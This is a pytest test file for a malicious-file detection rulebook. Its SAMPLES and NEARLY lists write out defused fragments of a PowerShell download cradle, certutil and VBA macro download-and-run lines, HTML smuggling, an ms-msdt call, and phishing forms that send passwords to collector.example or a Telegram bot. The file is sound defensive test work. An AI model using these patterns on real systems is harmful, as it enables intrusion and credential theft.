"""Each of our rules fits a sample of what it is for, made here of harmless octets, and not what is nearly that."""

from __future__ import annotations

import base64

import pytest

from ecluse.domain.opened import Severity
from ecluse.opening.rules import matching
from ecluse.opening.rules.rulebook import Rulebook, shipped_rules
from tests.unit.opening.asking import opened
from tests.unit.opening.makers import zipped

LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(100) + b"IEND\xaeB`\x82"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
STORE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20)
DOS = b"MZ" + bytes(60) + b"This program cannot be run in DOS mode"
LETTERS = b"QUFB" * 800
# In pieces, so that no scanner takes this file for what it tests.
POWERSHELL = b"power" + b"shell.exe"
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")
FONT = bytes.fromhex("1c0000000200") + bytes(22) + bytes.fromhex("03010103 0a 08")


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


DROPPER = (
    b"var s = new ActiveXObject('WScript.Shell'); var h = new ActiveXObject('MSXML2.XMLHTTP');"
    b"var f = new ActiveXObject('ADODB.Stream'); f.SaveToFile(p, 2); s.Run(p);"
)
SMUGGLER = (
    b"<html><script>var d = '" + LETTERS + b"'; var u = new Uint8Array(9); var b = new Blob([atob(d)]);"
    b"a.href = URL.createObjectURL(b); a.download = 'invoice.zip'; a.click();</script></html>"
)
FORM = b"<form action='https://collector.example/next.php'><input value='ann@client.example'><input type='password'></form>"
MACRO = b'Attribute VB_Name = "a"\r\nSub AutoOpen()\r\nURLDownloadToFile 0, u, p, 0, 0\r\nShell "p", 0\r\nEnd Sub\r\n'
RTF_LINK = (
    b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata e0c9ea79f9bace118c8200aa004ba90b00006800740074007000}}}"
)

SAMPLES = {
    "script_downloads_and_runs": DROPPER,
    "powershell_hidden_download": POWERSHELL + b" -w hidden -c iex (New-Object Net.WebClient).DownloadString($u)",
    "script_hidden_encoded_powershell": POWERSHELL + b" -w hidden -enc " + LETTERS,
    "hta_starts_program": b"<hta:application><script>new ActiveXObject('WScript.Shell').Run('cmd.exe /c x')</script>",
    "shortcut_starts_interpreter": LNK + wide("C:\\Windows\\System32\\cmd.exe") + wide(" /c start x"),
    "shortcut_carries_payload": LNK + bytes(5_000) + DOS,
    "internet_shortcut_to_a_file_share": b"[InternetShortcut]\r\nURL=file://files.example/share/a.js\r\n",
    "batch_downloads_and_runs": b"@echo off\r\ncertutil -urlcache -f u a.exe\r\nstart a.exe\r\n",
    "script_library_of_strings": b"var _0x1a2b=['a'];(function(b){b['push'](b['shift']())})(_0x1a2b);WScript.Sleep(1)",
    "page_smuggles_a_file": SMUGGLER,
    "page_writes_decoded_page": b"<script>document.write(unescape('" + b"%3c%70%3e" * 300 + b"'))</script>",
    "page_posts_a_password_to_a_bot": (
        b"<input type='password'><script>fetch('https://api.telegram.org/bot1:a/sendMessage?chat_id=1')</script>"
    ),
    "page_asks_for_a_known_password": FORM,
    "drawing_with_script": b"<svg xmlns='x'><script>window.location.href = 'https://a.example'</script></svg>",
    "equation_editor_object": b"{\\rtf1{\\object\\objemb{\\*\\objdata 4571756174696f6e2e33}}}",
    "equation_editor_native": OLE + EQUATION + FONT + b"A" * 60,
    "link_object_to_script": RTF_LINK,
    "diagnostic_tool_call": b"<script>location.href = 'ms-" + b"msdt:/id PCWDiagnostic /skip force'</script>",
    "search_protocol_call": b"search-ms:query=a&crumb=location:\\\\files.example\\share",
    "remote_template_page": (
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
        b'Target="https://a.example/x.html!" TargetMode="External"/>'
    ),
    "macro_downloads_and_runs": MACRO,
    "pdf_starts_program": b"%PDF-1.4 <</OpenAction <</S /Launch /Win <</F (cmd.exe)>>>>>>",
    "picture_with_program_behind": PNG + DOS,
    "picture_with_script_behind": PNG + b"<hta:application id=a>",
    "disk_image_with_shortcut": bytes(32_769) + b"CD001" + bytes(200) + LNK + wide("rundll32.exe"),
    "document_and_program_at_once": b"%PDF-1.4" + bytes(32_761) + b"CD001",
    "notebook_with_program": ONE + STORE + b"MZ",
}

NEARLY = [
    b"new ActiveXObject('MSXML2.XMLHTTP').open('GET', u)",
    POWERSHELL + b" -File report.ps1",
    b"To install it, run: iex ((New-Object Net.WebClient).DownloadString('https://a.example/install.ps1'))",
    LNK + wide("C:\\Program Files\\Reader\\reader.exe") + wide(" report.pdf"),
    b"[InternetShortcut]\r\nURL=https://www.example/\r\n",
    b"[InternetShortcut]\r\nURL=file://server/share/report.pdf\r\n",
    SMUGGLER.replace(b"invoice.zip", b"chart.png"),
    FORM.replace(b"value='ann@client.example'", b""),
    b"<svg xmlns='x'><path d='M0 0'/></svg>",
    b"{\\rtf1{\\object\\objemb{\\*\\objdata 457863656c2e53686565742e38}}}",  # Excel.Sheet.8
    OLE + EQUATION + FONT + b"Times New Roman\0" + b"A" * 60,
    b"We will search-ms and ms-msdt for you.",
    SAMPLES["remote_template_page"].replace(b"oleObject", b"hyperlink"),
    b'Attribute VB_Name = "a"\r\nSub AutoOpen()\r\nMsgBox "Hello"\r\nEnd Sub\r\n',
    b"%PDF-1.4 <</OpenAction <</S /GoTo /D [1]>>>>",
    PNG,
    DOS,
    bytes(32_769) + b"CD001" + bytes(200) + DOS,
    ONE + STORE + b"\x89PNG" + b"A" * 100,
    base64.encodebytes(bytes(range(256)) * 100),
]


@pytest.fixture(scope="module")
def rulebook():
    book = Rulebook()
    assert book.refresh() == ()
    return book


@pytest.mark.parametrize("name", SAMPLES)
def test_a_rule_fits_its_sample(rulebook, name):
    assert name in {match.name for match in rulebook.match(SAMPLES[name])}


PNG = b"\x89PNG\r\n\x1a\n" + bytes(50)
GIF = b"GIF89a"
HTA = SAMPLES["hta_starts_program"]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (HTA, {"hta_starts_program"}),
        (HTA + zipped({"a.txt": b"a"}), {"hta_starts_program"}),
        (zipped({"a.hta": HTA}), {"hta_starts_program"}),
        (PNG + HTA, {"hta_starts_program", "picture_with_script_behind"}),
        (PNG + b"IEND\xae\x42\x60\x82" + DOS, {"picture_with_program_behind"}),
    ],
)
def test_what_is_packed_hides_nothing_from_the_rules(content, expected, monkeypatch):
    book = Rulebook()
    book.refresh()
    monkeypatch.setattr(matching, "_rulebook", book)
    assert {match.name for match in opened(content, "a.hta").rules} == expected


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("a.hta", GIF + HTA, "hta_starts_program"),
        ("a.js", b"PK\x03\x04=1;" + DROPPER, "script_downloads_and_runs"),
        ("a.js", GIF + b"=1;" + DROPPER, "script_downloads_and_runs"),
        ("a.html", PNG + SMUGGLER, "page_smuggles_a_file"),
        ("a.png", PNG + SMUGGLER, "page_smuggles_a_file"),
        ("a.gif", GIF + HTA, "hta_starts_program"),
        ("", GIF + HTA, "hta_starts_program"),
        ("a.zip", b"PK\x03\x04" + bytes(90_000) + HTA, "hta_starts_program"),
    ],
)
def test_a_page_or_a_script_with_the_first_octets_of_something_packed_is_read(name, content, expected, monkeypatch):
    book = Rulebook()
    book.refresh()
    monkeypatch.setattr(matching, "_rulebook", book)
    found = opened(content, name)
    assert expected in {match.name for match in found.rules}
    assert found.type in {"gif", "png", "zip"}


@pytest.mark.parametrize("first", ["a.gif", "a.txt"])
def test_what_was_a_picture_by_another_name_is_read_as_a_script(first, monkeypatch):
    book = Rulebook()
    book.refresh()
    monkeypatch.setattr(matching, "_rulebook", book)
    script = GIF + b"=1;" + DROPPER
    found = opened(zipped({first: script, "b.js": script}), "a.zip")
    assert "script_downloads_and_runs" in {match.name for match in found.rules}


def test_a_picture_by_name_and_content_is_only_asked_what_pictures_are_asked(monkeypatch):
    asked = []
    monkeypatch.setattr(Rulebook, "match", lambda _self, _content, *, is_packed: (asked.append(is_packed), iter(()))[1])
    for name in ("a.png", "A.PNG ", ""):
        opened(PNG, name)
    assert asked == [True] * 3


def test_every_rule_has_a_sample():
    assert {rule.identifier for rule in shipped_rules()} == set(SAMPLES)


@pytest.mark.parametrize("content", NEARLY, ids=range(len(NEARLY)))
def test_what_is_nearly_that_fits_no_rule(rulebook, content):
    assert list(rulebook.match(content)) == []


def test_every_rule_says_in_two_languages_what_it_is_for_and_how_grave_that_is():
    for rule in shipped_rules():
        said = dict(rule.metadata)
        assert said["en"].endswith("."), rule.identifier
        assert said["fr"].endswith("."), rule.identifier
        assert said["severity"] in set(Severity), rule.identifier
